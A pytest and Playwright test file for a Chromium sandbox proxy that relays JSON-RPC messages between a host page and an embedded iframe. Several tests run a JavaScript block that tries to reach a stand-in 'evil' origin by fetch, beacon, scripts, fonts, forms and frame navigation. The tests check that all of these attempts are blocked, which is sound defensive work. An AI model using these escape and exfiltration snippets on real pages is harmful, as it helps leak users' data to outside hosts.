"""The sandbox proxy in a real Chromium: three real origins on one port, and a fourth that attacks."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from importlib.resources import files
from typing import Any
from urllib.parse import quote

import pytest
from playwright.async_api import Browser, Error, Frame, Page
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route

from fanlight.browser import served_script
from support.browser import until
from support.wire import serving

pytestmark = pytest.mark.anyio

FILES = files("fanlight.browser")
READY = {"jsonrpc": "2.0", "method": "ui/notifications/sandbox-proxy-ready", "params": {}}
PING = {"jsonrpc": "2.0", "id": 0, "method": "ping"}
SANDBOX = "allow-scripts allow-same-origin allow-forms"

# A host page that frames a given address and records all messages.
HOST_PAGE = """<!doctype html><title>host</title><script>
const messages = [];
addEventListener("message", ({source, origin, data}) => messages.push({data, origin, proxy: source === frames[0]}));
const open_ = (src, allow = "") => {
  const frame = document.createElement("iframe");
  Object.assign(frame, {src, allow, width: 400, height: 300});
  frame.sandbox = "allow-scripts allow-same-origin allow-forms allow-pointer-lock";
  document.body.append(frame);
};
const say = (data) => frames[0].postMessage(data, "*");
</script><body>"""

VIEW = """<!doctype html><title>view</title><p id=out>View</p><script>
const got = [];
addEventListener("message", ({source, data}) => source === parent && got.push(data));
const say = (data) => parent.postMessage(data, "*");
</script>"""


class Origins:
    """The origins of one test, and every request for something outside."""

    def __init__(self, port: str) -> None:
        self.host = f"http://localhost:{port}"
        self.proxy = f"http://sandbox.localhost:{port}"
        self.view = f"http://abc.sandbox.localhost:{port}"
        self.evil = f"http://evil.localhost:{port}"
        self.hits: list[str] = []


class Stage:
    def __init__(self, page: Page, origins: Origins) -> None:
        self.page = page
        self.origins = origins

    @property
    def proxy_url(self) -> str:
        return f"{self.origins.proxy}/proxy?host={quote(self.origins.host)}&view=*"

    @property
    def html_proxy_url(self) -> str:
        return f"{self.origins.proxy}/proxy?host={quote(self.origins.host)}"

    async def open(self, url: str, *, at: str | None = None, allow: str = "") -> None:
        await self.page.goto(f"{at or self.origins.host}/host")
        await self.page.evaluate("([url, allow]) => open_(url, allow)", [url, allow])

    async def say(self, message: Any) -> None:
        await self.page.evaluate("message => say(message)", message)

    async def resource(self, **params: Any) -> None:
        await self.say({"jsonrpc": "2.0", "method": "ui/notifications/sandbox-resource-ready", "params": params})

    async def messages(self, count: int) -> list[Any]:
        """Wait for a number of messages to the host page. All must come from the proxy and its origin."""
        await self.page.wait_for_function(f"messages.length >= {count}", timeout=60_000)
        received = await self.page.evaluate("messages")
        assert {(message["origin"], message["proxy"]) for message in received} <= {(self.origins.proxy, True)}
        return [message["data"] for message in received]

    async def frame(self, depth: int) -> Frame:
        """Return the frame at a depth when its document has loaded: 1 is the proxy, 2 the View."""
        frame = self.page.main_frame
        for _ in range(depth):
            for _ in range(200):
                if frame.child_frames:
                    break
                await self.page.wait_for_timeout(25)
            assert len(frame.child_frames) == 1
            frame = frame.child_frames[0]
        await frame.wait_for_load_state()
        return frame

    async def show(self, **params: Any) -> Frame:
        """Open the proxy, let it load a document, and return the View's frame."""
        await self.open(self.html_proxy_url if "html" in params else self.proxy_url, allow=params.get("allow", ""))
        assert await self.messages(1) == [READY]
        await self.resource(**params)
        view = await self.frame(2)
        await until(view, "typeof say === 'function'")
        return view

    async def settled(self) -> None:
        """Wait until all messages that were sent have arrived. The messages of a window arrive in order."""
        for frame in (self.page.main_frame, *self.page.main_frame.child_frames, self.page.main_frame):
            await frame.evaluate("new Promise(done => setTimeout(done, 40))")


@asynccontextmanager
async def staged(browser: Browser, view: str = VIEW, *, headers: bool = True) -> AsyncIterator[Stage]:
    """Serve all origins. Without `headers`, the proxy page has only the policies that it gives itself."""

    def answer(request: Request) -> Response:
        name, path = request.url.hostname or "", request.url.path
        if path == "/host":
            return HTMLResponse(HOST_PAGE)
        if name == "sandbox.localhost":
            if path == "/sandbox.js":
                return Response(served_script("sandbox.js"), media_type="text/javascript")
            csp = f"frame-ancestors {request.query_params.get('host')}"
            if "view" in request.query_params:
                views = origins.proxy.replace("://", "://*.")
                csp += f"; default-src 'none'; script-src 'self'; frame-src {views}; base-uri 'none'"
            page = FILES.joinpath("proxy.html").read_text("utf-8")
            return HTMLResponse(page, headers={"content-security-policy": csp} if headers else None)
        if name.endswith(".sandbox.localhost") and path == "/view":
            return HTMLResponse(view)
        if path == "/favicon.ico":
            return Response(status_code=404)
        origins.hits.append(f"{name}{path}")
        return PlainTextResponse("hit", headers={"access-control-allow-origin": "*"})

    async def handle(request: Request) -> Response:
        return answer(request)

    app = Starlette(routes=[Route("/{path:path}", handle, methods=["GET", "POST"])])
    with serving(app) as address:
        origins = Origins(address.rsplit(":", 1)[1])
        page = await browser.new_page()
        yield Stage(page, origins)
        await page.close()


KINDS = pytest.mark.parametrize("kind", ["url", "html"])


def document(stage: Stage, kind: str) -> dict[str, Any]:
    return {"html": VIEW} if kind == "html" else {"url": f"{stage.origins.view}/view", "sandbox": SANDBOX}


@KINDS
async def test_everything_is_relayed_unchanged_both_ways(kind: str, browser: Browser) -> None:
    passing: list[Any] = [
        PING,
        {"jsonrpc": "2.0", "id": 0, "result": {"deep": [{"a": [None, 0, "", {"é": "\u2028"}]}]}},
        {"jsonrpc": "2.0", "id": 1, "error": {"code": -32601, "message": "no"}},
        {"jsonrpc": "2.0", "method": "of/nobody", "params": {"big": "ü" * 2_000_000}},
    ]
    async with staged(browser) as stage:
        view = await stage.show(**document(stage, kind))
        for message in passing:
            await view.evaluate("message => say(message)", message)
            await stage.say(message)
        assert await stage.messages(5) == [READY, *passing]
        await until(view, "got.length >= 4")
        assert await view.evaluate("got") == passing


@KINDS
async def test_sandbox_messages_pass_in_neither_direction(kind: str, browser: Browser) -> None:
    async with staged(browser) as stage:
        view = await stage.show(**document(stage, kind))
        for name in ("proxy-ready", "resource-ready", "x"):
            message = {"jsonrpc": "2.0", "method": f"ui/notifications/sandbox-{name}", "params": {"html": "x"}}
            await view.evaluate("message => (say(message), say([message]))", message)
            await stage.say(message)
        await view.evaluate("say({last: 1})")
        await stage.say({"last": 1})
        assert await stage.messages(2) == [READY, {"last": 1}]
        await until(view, "got.length >= 1")
        assert await view.evaluate("got") == [{"last": 1}]
        assert len((await stage.frame(1)).child_frames) == 1


@KINDS
async def test_view_proxy_and_host_are_isolated(kind: str, browser: Browser) -> None:
    touch = """names => names.map((name) => {
      try { return String(eval(name)); } catch (error) { return error.name; }
    })"""
    async with staged(browser) as stage:
        view = await stage.show(**document(stage, kind))
        names = ["parent.document", "parent.parent.document", "top.document", "parent.location.href", "top.messages"]
        assert await view.evaluate(touch, names) == ["SecurityError"] * 5
        assert await view.evaluate("parent !== top && parent.parent === top")
        proxy = await stage.frame(1)
        outside = await proxy.evaluate("() => { try { return String(parent.document) } catch (e) { return e.name } }")
        assert outside == "SecurityError"
        reached = await proxy.evaluate("() => { try { return frames[0].document } catch (e) { return e.name } }")
        assert reached == "SecurityError"
        origin = await view.evaluate("self.origin")
        assert origin == ("null" if kind == "html" else stage.origins.view)


@KINDS
async def test_a_view_cannot_leave_its_frame(kind: str, browser: Browser) -> None:
    async with staged(browser) as stage:
        params = document(stage, kind)
        params["sandbox"] = (
            f"{SANDBOX} allow-top-navigation allow-popups allow-popups-to-escape-sandbox allow-modals allow-downloads"
        )
        view = await stage.show(**params)
        evil = stage.origins.evil
        await view.evaluate("url => { try { top.location = url } catch {} }", f"{evil}/top")
        await view.evaluate("url => { try { parent.location = url } catch {} }", f"{evil}/parent")
        assert await view.evaluate("url => window.open(url)", f"{evil}/popup") is None
        assert await view.evaluate("confirm('x')") is False
        (inner,) = await stage.page.frame_locator("iframe").locator("iframe").all()
        tokens = set((await inner.get_attribute("sandbox") or "").split())
        assert tokens == set(SANDBOX.split()) - ({"allow-same-origin"} if kind == "html" else set())
        await stage.settled()
        assert stage.origins.hits == []


@KINDS
@pytest.mark.parametrize("headers", [True, False])
async def test_a_view_that_navigates_away_reaches_no_other_window(kind: str, headers: bool, browser: Browser) -> None:
    async with staged(browser, headers=headers) as stage:
        view = await stage.show(**document(stage, kind))
        await view.evaluate("url => { location = url }", f"{stage.origins.evil}/secret")
        await stage.settled()
        await stage.settled()
        assert stage.origins.hits == []


@KINDS
async def test_messages_stop_when_the_frame_has_another_document(kind: str, browser: Browser) -> None:
    async with staged(browser) as stage:
        # A View may be allowed to frame another place, and could go there itself.
        params = document(stage, kind)
        there = f"http://other.{stage.origins.proxy.removeprefix('http://')}"
        if kind == "html":
            params["csp"] = {"frameDomains": [there]}
        else:
            there = stage.origins.view
        view = await stage.show(**params)
        await view.evaluate("window.first = true")
        await view.evaluate("url => { setTimeout(() => { location = url }) }", f"{there}/view?again")
        await stage.page.wait_for_function("frames[0][0]")
        view = await stage.frame(2)
        await view.wait_for_url("**/view?again")
        await view.wait_for_load_state()
        await stage.settled()
        await stage.say({"secret": 1})
        await view.evaluate("say({forged: 1})")
        await stage.settled()
        assert await view.evaluate("got") == []
        assert await stage.messages(1) == [READY]


async def test_a_second_document_is_ignored(browser: Browser) -> None:
    async with staged(browser) as stage:
        view = await stage.show(url=f"{stage.origins.view}/view")
        await stage.resource(url=f"{stage.origins.view}/view?second")
        await stage.settled()
        proxy = await stage.frame(1)
        assert [frame.url for frame in proxy.child_frames] == [view.url]
        assert view.url == f"{stage.origins.view}/view"


async def test_documents_are_loaded_only_from_one_label_below_the_proxy(browser: Browser) -> None:
    async with staged(browser, headers=False) as stage:
        await stage.open(stage.proxy_url)
        await stage.messages(1)
        port = stage.origins.proxy.rsplit(":", 1)[1]
        for url in (
            f"{stage.origins.evil}/x",
            f"{stage.origins.proxy}/x",
            f"http://a.b.sandbox.localhost:{port}/view",
            f"http://xsandbox.localhost:{port}/view",
            f"http://abc.sandbox.localhost:{int(port) + 1}/view",
            f"https://abc.sandbox.localhost:{port}/view",
            f"http://abc@sandbox.localhost:{port}/view",
            "javascript:parent.postMessage(1, '*')",
            "data:text/html,x",
        ):
            await stage.resource(url=url)
        await stage.resource(html=VIEW)
        await stage.settled()
        assert (await stage.frame(1)).child_frames == []
        assert stage.origins.hits == []


async def test_a_view_cannot_navigate_to_the_origin_of_another(browser: Browser) -> None:
    """The header allows all apps, `lock()` one of them: without it, the other app's document is fetched."""
    async with staged(browser) as stage:
        view = await stage.show(url=f"{stage.origins.view}/view")
        other = stage.origins.view.replace("abc", "other")
        await view.evaluate("url => { location = url }", f"{other}/secret")
        await stage.settled()
        await stage.settled()
        assert stage.origins.hits == []


@pytest.mark.parametrize("whose", ["evil", "host"])
async def test_another_window_can_neither_load_a_document_nor_send_messages(whose: str, browser: Browser) -> None:
    async with staged(browser, headers=False) as stage:
        await stage.open(stage.proxy_url)
        await stage.messages(1)
        await stage.page.evaluate("url => open_(url)", f"{getattr(stage.origins, whose)}/host")
        await stage.page.wait_for_function("frames.length === 2")
        attacker = stage.page.main_frame.child_frames[1]
        await attacker.wait_for_load_state()
        say = "message => parent.frames[0].postMessage(message, '*')"
        load = {"method": "ui/notifications/sandbox-resource-ready", "params": {"url": f"{stage.origins.view}/view"}}
        await attacker.evaluate(say, load)
        await stage.settled()
        assert stage.page.main_frame.child_frames[0].child_frames == []
        await stage.say(load)
        while not (views := stage.page.main_frame.child_frames[0].child_frames):
            await stage.page.wait_for_timeout(20)
        (view,) = views
        await until(view, "typeof say === 'function'")
        await attacker.evaluate(say, PING)
        await attacker.evaluate("message => parent.frames[0][0].postMessage(message, '*')", PING)
        await stage.say({"last": 1})
        await until(view, "got.length >= 1")
        assert await view.evaluate("got") == [{"last": 1}]
        assert await stage.messages(1) == [READY]


@pytest.mark.parametrize("headers", [True, False])
async def test_in_a_page_of_another_origin_the_proxy_sends_and_loads_nothing(headers: bool, browser: Browser) -> None:
    async with staged(browser, headers=headers) as stage:
        await stage.open(stage.proxy_url, at=stage.origins.evil)
        await stage.frame(1)
        await stage.resource(url=f"{stage.origins.view}/view")
        await stage.settled()
        assert await stage.page.evaluate("messages") == []
        assert (await stage.frame(1)).child_frames == []


async def test_the_proxy_does_not_run_in_a_page_of_its_own_origin(browser: Browser) -> None:
    async with staged(browser, headers=False) as stage:
        await stage.open(stage.proxy_url, at=stage.origins.proxy)
        await stage.page.frame_locator("iframe").get_by_text("same origin").wait_for()
        await stage.resource(url=f"{stage.origins.view}/view")
        await stage.settled()
        assert await stage.page.evaluate("messages") == []


async def test_the_proxy_does_not_run_without_a_frame(browser: Browser) -> None:
    async with staged(browser, headers=False) as stage:
        await stage.page.goto(stage.proxy_url)
        await stage.page.get_by_text("works only in a frame").wait_for()


@pytest.mark.parametrize("headers", [True, False])
async def test_the_proxy_itself_can_do_nothing_but_frame_one_view(headers: bool, browser: Browser) -> None:
    async with staged(browser, headers=headers) as stage:
        await stage.show(url=f"{stage.origins.view}/view")
        proxy = await stage.frame(1)
        with pytest.raises(Error, match="Failed to fetch"):
            await proxy.evaluate("url => fetch(url).then(String)", f"{stage.origins.evil}/fetch")
        await proxy.evaluate(
            "url => { const i = new Image(); i.src = url; const f = document.createElement('iframe');"
            "f.src = url; document.body.append(f); }",
            f"{stage.origins.evil}/frame",
        )
        await stage.settled()
        assert stage.origins.hits == []


async def test_permissions_reach_the_view_only_if_granted(browser: Browser) -> None:
    names = "['camera', 'microphone', 'geolocation', 'clipboard-write']"
    asked = f"{names}.filter(name => document.featurePolicy.allowsFeature(name))"
    async with staged(browser) as stage:
        view = await stage.show(url=f"{stage.origins.view}/view", allow="camera; clipboard-write")
        assert await view.evaluate(asked) == ["camera", "clipboard-write"]
        view = await stage.show(url=f"{stage.origins.view}/view")
        assert await view.evaluate(asked) == []
        await stage.open(stage.html_proxy_url, allow="camera; microphone; geolocation; clipboard-write")
        await stage.messages(1)
        await stage.resource(html=VIEW, permissions={"microphone": {}, "geolocation": {}})
        inner = stage.page.frame_locator("iframe").locator("iframe")
        assert await inner.get_attribute("allow") == "microphone; geolocation"


# What a document can try: each leaves a hit under its own name if it gets out.
ATTEMPTS = """
const to = (name) => `${window.target}/${name}`;
const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
const attempts = {
  fetch: () => fetch(to("fetch")).catch(() => {}),
  beacon: () => navigator.sendBeacon(to("beacon"), "x"),
  events: () => new EventSource(to("events")),
  img: () => add("img", {src: to("img")}),
  script: () => add("script", {src: to("script")}),
  style: () => add("link", {rel: "stylesheet", href: to("style")}),
  font: () => new FontFace("x", `url(${to("font")})`).load().catch(() => {}),
  media: () => { const v = document.createElement("video"); v.src = to("media"); document.body.append(v); v.load(); },
  frame: () => add("iframe", {src: to("frame")}),
  object: () => add("object", {data: to("object")}),
  embed: () => add("embed", {src: to("embed")}),
  worker: () => { try { new Worker(to("worker")) } catch {} },
  base: () => { document.head.append(Object.assign(document.createElement("base"), {href: to("base/")}));
    add("a", {href: "x", id: "a"}); window.based = document.getElementById("a").href; },
  form: () => { add("form", {action: to("form"), method: "post", id: "f"}); document.getElementById("f").submit(); },
};
const run = (target) => {
  window.target = target;
  for (const name in attempts) attempts[name]();
  return [window.based, document.compatMode];
};
"""


async def attempt(stage: Stage, html: str, csp: dict[str, Any] | None) -> tuple[set[str], str]:
    """Let HTML try everything. Return the requests that got out, and the base of its relative links."""
    await stage.open(stage.html_proxy_url)
    await stage.messages(1)
    await stage.resource(html=html, **({} if csp is None else {"csp": csp}))
    view = await stage.frame(2)
    based, mode = await view.evaluate("target => run(target)", stage.origins.evil)
    assert mode == "CSS1Compat"
    # The last attempt, a form, ends with the browser's own error page, which comes after everything else.
    for _ in range(200):
        if view.url.startswith("chrome-error:"):
            break
        await stage.page.wait_for_timeout(25)
    await stage.settled()
    return {hit.removeprefix("evil.localhost/") for hit in stage.origins.hits}, based


@pytest.mark.parametrize(
    ("before", "csp"),
    [
        ("<!doctype html><html><head></head>", None),
        ("<!-- --><script>document.querySelector('meta').remove()</script>", {}),
        ("", {"connectDomains": ["*", "'self'", "http:", "x; connect-src *"], "frameDomains": ["*"]}),
    ],
)
async def test_html_without_declared_domains_has_no_network(before: str, csp: Any, browser: Browser) -> None:
    async with staged(browser) as stage:
        hits, based = await attempt(stage, f"{before}<body><script>{ATTEMPTS}</script>", csp)
        assert hits == set()
        assert "evil" not in based


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("connectDomains", {"fetch", "beacon", "events"}),
        ("resourceDomains", {"img", "script", "style", "font", "media"}),
        ("frameDomains", {"frame"}),
        ("baseUriDomains", set()),
    ],
)
async def test_html_reaches_only_its_declared_domains(name: str, expected: set[str], browser: Browser) -> None:
    async with staged(browser) as stage:
        html = f"<!doctype html><body><script>{ATTEMPTS}</script>"
        hits, based = await attempt(stage, html, {name: [stage.origins.evil]})
        assert hits == expected
        assert ("evil" in based) == (name == "baseUriDomains")


async def test_the_proxy_works_with_another_host(browser: Browser) -> None:
    """The standard's own exchange: HTML after readiness, then the View's handshake through the proxy."""
    html = VIEW + '<script>say({jsonrpc: "2.0", id: 1, method: "ui/initialize", params: {}})</script>'
    async with staged(browser) as stage:
        view = await stage.show(html=html, csp={"connectDomains": []}, permissions={})
        assert (await stage.messages(2))[1]["method"] == "ui/initialize"
        await stage.say({"jsonrpc": "2.0", "id": 1, "result": {}})
        await until(view, "got.length === 1")
        await stage.settled()
        assert len(await stage.messages(2)) == 2
